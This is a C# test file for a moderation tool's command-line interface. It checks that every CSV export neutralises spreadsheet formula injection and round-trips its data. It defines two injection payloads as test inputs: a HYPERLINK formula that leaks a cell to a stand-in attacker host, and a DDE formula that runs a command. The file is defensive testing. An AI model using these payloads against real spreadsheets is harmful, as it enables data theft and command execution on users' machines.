using Bulwark.Core.Storage;
using Bulwark.Tests.Infrastructure;
using Bulwark.Tests.KnownContent;

namespace Bulwark.Tests.Cli;

/// <summary>
/// Every CSV the CLI writes, fed with values a spreadsheet would run as formulas (OWASP CSV injection): no written cell
/// may start with =, +, -, @, tab or CR once the CSV is decoded, and what Bulwark reads back is what it wrote.
/// </summary>
public class CsvExportCliTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    private const string Dde = "@SUM(1+1)*cmd|' /C calc'!A0";

    private static Task<CliRun> Bulwark(TestDatabase db, params string[] args) => CliRunner.RunAsync(db, args);

    /// <summary>Decodes RFC 4180 CSV (header included) into its cells.</summary>
    internal static List<List<string>> Cells(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c != '"') cell.Append(c);
                else if (i + 1 < csv.Length && csv[i + 1] == '"') { cell.Append('"'); i++; }
                else quoted = false;
                continue;
            }
            switch (c)
            {
                case '"': quoted = true; break;
                case ',': row.Add(cell.ToString()); cell.Clear(); break;
                case '\n': row.Add(cell.ToString()); cell.Clear(); rows.Add(row); row = []; break;
                default: cell.Append(c); break;
            }
        }
        if (cell.Length > 0 || row.Count > 0) { row.Add(cell.ToString()); rows.Add(row); }
        return rows.Where(r => !(r.Count == 1 && r[0].StartsWith('#'))).ToList();
    }

    internal static void AssertNoFormulaCells(CliRun run, string what)
    {
        Assert.True(run.ExitCode == 0, $"{what}: {run.Err}");
        foreach (var row in Cells(run.Out))
            foreach (var cell in row)
                Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r',
                    $"{what} wrote a cell a spreadsheet would run: {cell}");
    }

    [Fact]
    public async Task Every_csv_writer_neutralises_formula_cells_and_bank_csv_round_trips()
    {
        await using var db = await TestDatabase.CreateAsync(DatabaseProvider.Sqlite);
        Assert.Equal(0, (await Bulwark(db, "db", "migrate")).ExitCode);
        string File(string name, string content) { var p = Path.Combine(db.Directory, name); System.IO.File.WriteAllText(p, content); return p; }

        // An expert list whose names are formulas; one is "protected" by a leading tab, which import must not strip.
        var list = File("expert.csv", "Title,City,State,Group,Ideology,Headquarters,Statewide,Year\n" +
            $"\"{Hyperlink.Replace("\"", "\"\"")}\",Springfield,Oregon,,White Nationalist,Yes,No,2023\n" +
            "\"\t=1+1 Brigade\",\"+Shelbyville\",Oregon,,White Nationalist,Yes,No,2023\n" +
            $"Cinder Oath Fellowship,\"{Dde}\",Ohio,,-Accelerationist,Yes,No,2024\n");
        var imported = await Bulwark(db, "lists", "import", "csv", "--source", "expert-demo", list);
        Assert.True(imported.ExitCode == 0, imported.Err);

        var entities = await Bulwark(db, "entities", "list");
        AssertNoFormulaCells(entities, "entities list");
        var names = Cells(entities.Out).Skip(1).Select(r => r[4]).ToList();
        Assert.Contains("'" + Hyperlink, names);
        Assert.Contains("'\t=1+1 Brigade", names); // the tab stayed; the writer still prefixes it

        for (var id = 1; id <= 3; id++) Assert.Equal(0, (await Bulwark(db, "entities", "approve", id.ToString(), "--reason", "test")).ExitCode);
        AssertNoFormulaCells(await Bulwark(db, "screen", $"share {Hyperlink} now"), "screen");
        AssertNoFormulaCells(await Bulwark(db, "screen", "--names", File("names.txt", $"{Hyperlink}\n-Cinder Oath Fellowship\n")), "screen --names");

        // Banks: description, attribution and source are free text.
        Assert.Equal(0, (await Bulwark(db, "bank", "create", "terror", "--description", "+1 (555) 0100 hotline")).ExitCode);
        AssertNoFormulaCells(await Bulwark(db, "bank", "list"), "bank list");
        var image = Path.Combine(db.Directory, "=1+1.png");
        await System.IO.File.WriteAllBytesAsync(image, SyntheticMedia.Image(5));
        var added = await Bulwark(db, "bank", "add", "terror", image, "--entity", Hyperlink, "--source", Dde);
        Assert.True(added.ExitCode == 0, added.Err);
        var export = await Bulwark(db, "bank", "export", "terror");
        AssertNoFormulaCells(export, "bank export");
        var row = Cells(export.Out)[1];
        Assert.Equal(("'" + Dde, "'" + Hyperlink), (row[2], row[3]));

        // What Bulwark wrote, Bulwark reads back as the original values.
        var csv = File("terror.csv", export.Out);
        Assert.Equal(0, (await Bulwark(db, "bank", "create", "copy")).ExitCode);
        var reimport = await Bulwark(db, "bank", "import", "copy", csv);
        Assert.True(reimport.ExitCode == 0, reimport.Err);
        Assert.Equal(export.Out, (await Bulwark(db, "bank", "export", "copy")).Out);

        // Paths written by hash and match (a relative path is written as given).
        var hash = await CliRunner.RunAsync(db, "hash", "=1+1.png");
        AssertNoFormulaCells(hash, "hash");
        AssertNoFormulaCells(await CliRunner.RunAsync(db, "match", "=1+1.png"), "match");
    }
}
